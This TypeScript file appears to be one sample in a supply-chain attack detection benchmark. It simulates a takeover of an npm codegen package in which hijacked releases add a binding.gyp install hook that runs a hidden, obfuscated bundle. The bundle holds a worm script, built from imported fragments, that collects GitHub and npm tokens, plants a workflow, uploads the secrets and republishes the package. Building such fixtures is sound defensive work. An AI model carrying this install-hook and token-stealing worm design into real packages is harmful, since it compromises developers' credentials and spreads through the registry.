import { defineAttack } from "../attack.ts";
import { commandTool } from "../bases.ts";
import { renderBundle } from "../bundle.ts";
import { collectSecrets, dropWorkflow, republish, uploadToRepository } from "../fragments.ts";
import { commonScript } from "../guard.ts";
import { hideInTable, oneLine } from "../hiding.ts";
import type { LineChange } from "../publishing-ways.ts";
import type { Sample } from "../sample.ts";

/**
 * Trinitite in `@7nohe/openapi-react-query-codegen`, 28 August 2026: its release workflow publishes on a comment. Ten versions on four
 * lines in 21 minutes: a `binding.gyp` and an obfuscated file of four to six megabytes, trusted publishing as ever.
 */
export const openapiCodegen2026: Sample = defineAttack({
  id: "openapi-codegen-2026",
  title: "Four lines in twenty minutes gain a binding.gyp and megabytes",
  group: "takeover",
  trigger: "install",
  judged: [
    { name: "@7nohe/openapi-react-query-codegen", version: "2.1.1" },
    { name: "@7nohe/openapi-react-query-codegen", version: "1.6.3" },
  ],
  now: "2026-08-28T06:40:00Z",
  createLines: () => {
    const armed: LineChange = {
      files: [
        {
          path: "binding.gyp",
          content:
            '{ "targets": [{ "target_name": "x", "type": "none", "variables": { "y": "<!(node ./dist/trinitite.js)" } }] }\n',
        },
        {
          path: "dist/trinitite.js",
          content: renderBundle(4_400_000, 100, [hideInTable(oneLine(worm), "hex")]),
        },
      ],
    };
    return [
      {
        name: "@7nohe/openapi-react-query-codegen",
        files: commandTool("@7nohe/openapi-react-query-codegen", "openapi-rq"),
        manifest: { bin: { "openapi-rq": "bin/openapi-rq.js" } },
        way: "trusted-publisher",
        releases: [
          ["0.5.3", "2024-04-02T10:00:00Z", { tag: "old" }],
          ["1.6.1", "2025-01-02T10:00:00Z", { tag: "one" }],
          ["1.6.2", "2025-02-02T10:00:00Z", { tag: "one" }],
          ["2.0.0", "2026-02-12T10:00:00Z"],
          ["2.1.0", "2026-06-12T10:00:00Z"],
          ["2.1.1", "2026-08-28T06:02:00Z", armed],
          ["1.6.3", "2026-08-28T06:09:00Z", { ...armed, tag: "one" }],
          ["0.5.4", "2026-08-28T06:14:00Z", { ...armed, tag: "old" }],
          ["3.0.0", "2026-08-28T06:23:00Z", { ...armed, tag: "next" }],
        ],
      },
    ];
  },
});

const worm = commonScript(`
${collectSecrets}
${dropWorkflow}
${uploadToRepository("Inert: Trinitite")}
${republish}
dropWorkflow();
if (process.env.GITHUB_TOKEN) { uploadToRepository(process.env.GITHUB_TOKEN); }
if (npmToken()) { republish(npmToken()); }
`);
